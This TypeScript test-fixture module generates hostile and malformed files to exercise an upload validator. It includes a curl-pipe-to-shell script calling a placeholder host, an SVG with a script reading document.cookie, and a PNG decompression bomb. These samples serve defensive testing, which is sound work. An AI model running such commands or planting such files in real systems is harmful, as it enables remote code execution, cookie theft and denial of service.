/**
 * Real files for upload tests, generated on the fly: a phone photo with EXIF GPS, programs and an SVG with a script
 * dressed up as photos, a decompression bomb and a truncated JPEG. Test code only.
 */
import { deflateSync } from 'node:zlib';
import sharp from 'sharp';

/** Piața Victoriei, Timișoara: 45° 45′ 11.16″ N, 21° 13′ 33″ E. */
export const PHOTO_GPS = { lat: 45.7531, lng: 21.225833 };

/** A JPEG as a phone takes it: camera make, GPS position and "rotate 90°" in the EXIF orientation. */
export async function phonePhoto(width = 40, height = 30, gps = true): Promise<Buffer> {
	return sharp({ create: { width, height, channels: 3, background: '#3a7' } })
		.jpeg()
		.withMetadata({ orientation: 6 })
		.withExif({
			IFD0: { Make: 'PhoneMaker', Model: 'Secret Model 9' },
			...(gps
				? {
						IFD3: {
							GPSLatitudeRef: 'N',
							GPSLatitude: '45/1 45/1 1116/100',
							GPSLongitudeRef: 'E',
							GPSLongitude: '21/1 13/1 33/1'
						}
					}
				: {})
		})
		.toBuffer();
}

export const asFile = (bytes: Uint8Array | string, name: string, type = ''): File =>
	new File([typeof bytes === 'string' ? bytes : new Uint8Array(bytes)], name, { type });

/** The start of a Linux x86-64 executable. */
export const elfProgram = (): Uint8Array =>
	new Uint8Array([
		0x7f,
		0x45,
		0x4c,
		0x46,
		2,
		1,
		1,
		0,
		0,
		0,
		0,
		0,
		0,
		0,
		0,
		0,
		2,
		0,
		0x3e,
		0,
		1,
		0,
		0,
		0,
		...Array(40).fill(0)
	]);

/** A Windows executable: the MZ header pointing at a "PE\0\0" signature. */
export function windowsProgram(): Uint8Array {
	const bytes = new Uint8Array(256);
	bytes.set([0x4d, 0x5a, 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xff, 0xff]);
	bytes.set([0x80, 0, 0, 0], 0x3c);
	bytes.set([0x50, 0x45, 0, 0, 0x64, 0x86], 0x80);
	return bytes;
}

export const shellScript = (): string => '#!/bin/sh\ncurl -s http://example.invalid/x | sh\n';

export const svgWithScript = (): string =>
	'<?xml version="1.0" encoding="UTF-8"?>\n<!-- drawn by hand -->\n' +
	'<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><script>alert(document.cookie)</script>' +
	'<circle cx="50" cy="50" r="40" fill="red"/></svg>\n';

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
	let c = n;
	for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
	return c >>> 0;
});

function crc32(bytes: Uint8Array): number {
	let c = 0xffffffff;
	for (const b of bytes) c = CRC_TABLE[(c ^ b) & 0xff] ^ (c >>> 8);
	return (c ^ 0xffffffff) >>> 0;
}

function chunk(type: string, data: Uint8Array): Buffer {
	const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
	const out = Buffer.alloc(12 + data.length);
	out.writeUInt32BE(data.length, 0);
	body.copy(out, 4);
	out.writeUInt32BE(crc32(body), 8 + data.length);
	return out;
}

/**
 * A PNG that declares `size` × `size` pixels: black, 1 bit per pixel, so 20000 × 20000 (400 megapixels, over a
 * gigabyte once decoded to RGB) deflates to a few dozen kilobytes. With `garbage`, the pixel data is not even valid
 * zlib: refusing it with "too many pixels" rather than "unreadable" proves the header was judged before decoding.
 */
export function pngBomb(size = 20000, garbage = false): Buffer {
	const header = Buffer.alloc(13);
	header.writeUInt32BE(size, 0);
	header.writeUInt32BE(size, 4);
	header.set([1, 0, 0, 0, 0], 8); // bit depth 1, greyscale, deflate, no filter, no interlace
	const row = Math.ceil(size / 8) + 1; // filter byte + packed pixels
	const pixels = garbage ? Buffer.from('not zlib at all') : deflateSync(Buffer.alloc(row * size), { level: 9 });
	return Buffer.concat([
		Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
		chunk('IHDR', header),
		chunk('IDAT', pixels),
		chunk('IEND', new Uint8Array())
	]);
}

/** A JPEG cut off part-way through its pixel data, as an interrupted copy or download leaves it. */
export async function truncatedJpeg(): Promise<Buffer> {
	const full = await sharp({
		create: {
			width: 300,
			height: 200,
			channels: 3,
			background: '#000',
			noise: { type: 'gaussian', mean: 128, sigma: 40 }
		}
	})
		.jpeg()
		.toBuffer();
	return full.subarray(0, Math.floor(full.length * 0.7));
}
